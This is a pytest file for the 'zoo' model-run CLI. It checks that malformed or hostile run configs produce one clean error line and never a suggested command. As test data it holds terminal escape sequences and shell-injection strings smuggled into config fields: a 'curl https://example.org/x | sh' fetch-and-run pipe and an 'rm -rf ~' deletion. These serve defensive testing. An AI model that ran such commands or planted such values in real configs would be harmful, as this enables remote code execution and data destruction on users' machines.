"""A run folder written by hand or by a stranger is data: every hostile or unlucky input to
loading is one clear line, never a traceback, never a command the repo chose."""

from __future__ import annotations

import csv
import dataclasses
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

import zoo_core
from zoo_core import _config
from zoo_core.cli import cli
from zoo_core.data.labelled import read_labelled
from zoo_core.errors import ZooError, printable

FIXTURE = Path(__file__).parent / "fixtures" / "lstm-run-0.1.0"


def copy_run(tmp_path: Path, **changes: object) -> Path:
    """The fixture run copied into ``tmp_path``, ``changes`` made to sections of its config."""
    run = tmp_path / "run"
    shutil.copytree(FIXTURE, run)
    config = json.loads((run / "config.json").read_text())
    for key, value in changes.items():
        if isinstance(value, dict) and isinstance(config.get(key), dict):
            config[key].update(value)
        else:
            config[key] = value
    (run / "config.json").write_text(json.dumps(config))
    return run


def one_line_error(*args: object) -> str:
    """Run the real `zoo` command in-process; it must fail as a user's mistake does."""
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    return lines[0]


# -- saved configs are typed as --set values are ------------------------------------------------
@pytest.mark.parametrize(
    ("section", "field", "value", "says"),
    [
        ("model_config", "hidden_size", 8.0, "hidden_size must be an integer, not 8.0"),
        ("model_config", "hidden_size", None, "hidden_size must be an integer, not None"),
        ("model_config", "tie_weights", 1, "tie_weights must be true or false, not 1"),
        ("task_config", "seq_len", "16", "seq_len must be an integer, not '16'"),
    ],
)
def test_a_saved_config_value_of_the_wrong_type_is_one_line(tmp_path, section, field, value, says):
    run = copy_run(tmp_path, **{section: {field: value}})
    with pytest.raises(ZooError, match=says):
        zoo_core.load(run)
    assert says in one_line_error("eval", run)


@dataclasses.dataclass
class _Saved:
    sizes: tuple[int, ...] = (1, 2)
    limit: int | None = None
    rate: float = 0.5


def test_saved_values_are_rebuilt_as_their_fields_type_them():
    saved = _config.from_json(_Saved, {"sizes": [3, 4], "limit": None, "rate": 1})
    assert saved == _Saved(sizes=(3, 4), limit=None, rate=1.0)
    assert isinstance(saved.sizes, tuple) and isinstance(saved.rate, float)
    for values, says in (
        ({"sizes": [3, 4.5]}, "sizes must be an integer, not 4.5"),
        ({"sizes": 3}, "sizes must be a list, not 3"),
        ({"limit": True}, "limit must be an integer, not True"),
        ({"rate": None}, "rate must be a number, not None"),
    ):
        with pytest.raises(ZooError, match=f"^saved config of _Saved: {says}$"):
            _config.from_json(_Saved, values)


# -- no advice from the repo ---------------------------------------------------------------------
ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # a window title, a cleared screen, red text


def test_printable_leaves_no_escape_or_control_character():
    assert printable(f"zoo{ESC}-lstm\x9b1m\u202e\x00 and\nmore") == "zoo-lstm and more"
    assert printable("x" * 500) == "x" * 199 + "…"
    assert printable("unterminated \x1b]8;;http://example.org") == "unterminated "


@pytest.mark.parametrize(
    ("distribution", "suggested"),
    [
        ("zoo-mamba", "its config names the distribution zoo-mamba (pip install zoo-mamba)"),
        ("zoo-lstm' && curl https://example.org/x | sh #", None),
        ("evil pkg", None),
        (f"zoo-mamba{ESC}", None),
        ("zoo-mamba\n", None),
        ("zoo-ſ", None),  # a long s, which a case-insensitive [A-Z] would take for an s
    ],
)
def test_only_a_valid_distribution_name_is_suggested(tmp_path, distribution, suggested):
    run = copy_run(tmp_path, model=f"mamba{ESC}", distribution=distribution)
    error = one_line_error("eval", run)
    assert "mamba" in error and not any(c in error for c in "\x1b\x07\n")
    if suggested:
        assert suggested in error
    else:
        assert "pip install" not in error and "curl" not in error and "owned" not in error
        assert "install the plugin that provides it" in error


@pytest.mark.parametrize(
    ("version", "suggested"),
    [
        ("0.0.1", "pip install zoo-lstm==0.0.1"),
        ("v0.0.1 ", "pip install zoo-lstm==0.0.1"),
        ("0.1' && curl https://example.org/x | sh #", None),
        ("0.1 ; rm -rf ~", None),
        ("1" * 5000, None),
        (f"0.1{ESC}", None),
    ],
)
def test_only_a_valid_version_is_suggested(tmp_path, version, suggested):
    run = copy_run(tmp_path, plugin_version=version, model_config={"old_field": 1})
    error = one_line_error("eval", run)
    assert "'old_field'" in error and not any(c in error for c in "\x1b\x07")
    if suggested:
        assert "its config says it was saved with zoo-lstm 0.0.1" in error
        assert suggested in error
    else:
        assert "pip install" not in error and "curl" not in error and "rm -rf" not in error


def test_zoo_info_prints_no_escape_a_config_holds(tmp_path):
    run = copy_run(
        tmp_path,
        model=f"mamba{ESC}",
        plugin=f"mamba{ESC}",
        distribution=f"zoo-mamba{ESC}",
        task=f"lm{ESC}",
        tokenizer=f"char{ESC}",
        task_state={"data": f"pydoc{ESC}"},
        val_data=f"/tmp/val{ESC}",
        model_config={f"hidden{ESC}": f"wide{ESC}"},
        metrics={f"val_loss{ESC}": f"low{ESC}"},
    )
    result = CliRunner().invoke(cli, ["info", str(run)])
    assert result.exit_code == 0, result.output
    assert "mamba" in result.stdout and "val_loss" in result.stdout
    assert not any(c in result.stdout for c in "\x1b\x07\x9b"), repr(result.stdout)
    assert "zoo-mamba" not in result.stdout  # not a distribution's name: nothing to install


def test_zoo_info_takes_a_log_and_config_of_the_wrong_kinds(tmp_path):
    run = copy_run(tmp_path, train_config={"steps": "many", "time": "long"})
    config = json.loads((run / "config.json").read_text())
    del config["metrics"]  # unfinished: the planned steps and budget are shown
    (run / "config.json").write_text(json.dumps(config))
    with open(run / "metrics.jsonl", "a") as log:
        log.write(json.dumps({"step": "last", "elapsed": "a while"}) + "\n")
    result = CliRunner().invoke(cli, ["info", str(run)])
    assert result.exit_code == 0, result.output
    assert "trained: 3 steps in 1 s, unfinished" in result.stdout, result.stdout


# -- parsers that throw ----------------------------------------------------------------------------
HUGE_INT = "1" * 5000  # more digits than Python converts from a string
DEEP = "[" * 100_000 + "]" * 100_000  # nested deeper than the parser recurses


@pytest.mark.parametrize("bad", [HUGE_INT, DEEP], ids=["huge-int", "deep"])
@pytest.mark.parametrize("file", ["config.json", "tokenizer.json"])
def test_json_the_parser_refuses_is_one_line_naming_the_file(tmp_path, file, bad):
    run = copy_run(tmp_path)
    text = (run / file).read_text()
    (run / file).write_text(text.replace("{", f'{{"stranger": {bad}, ', 1))
    error = one_line_error("eval", run)
    assert file in error and "valid" in error, error


@pytest.mark.parametrize(
    "tied", ["not json", "[1, 2]", '{"head.weight": ["embed.weight"]}', DEEP, HUGE_INT]
)
def test_tied_weights_metadata_that_is_not_an_object_of_names_is_one_line(tmp_path, tied):
    from safetensors.torch import load_file, save_file

    run = copy_run(tmp_path)
    weights = run / "model.safetensors"
    save_file(load_file(weights), weights, metadata={"format": "pt", "zoo.tied": tied})
    error = one_line_error("eval", run)
    assert "model.safetensors" in error and "zoo.tied" in error, error


def test_a_long_csv_field_is_read_and_one_over_the_limit_is_one_line(tmp_path):
    long = tmp_path / "long.csv"
    long.write_text(f"text,label\n{'a' * 200_000},x\nb,y\n")
    assert [label for _, label in read_labelled(long)] == ["x", "y"]
    huge = tmp_path / "huge.csv"
    huge.write_text(f'text,label\nb,y\n"{"a" * (17 << 20)}",x\n')
    with pytest.raises(ZooError, match=r"huge\.csv, line \d+: not valid CSV \(field larger"):
        read_labelled(huge)
    assert csv.field_size_limit() == 128 * 1024  # the limit is this reader's alone
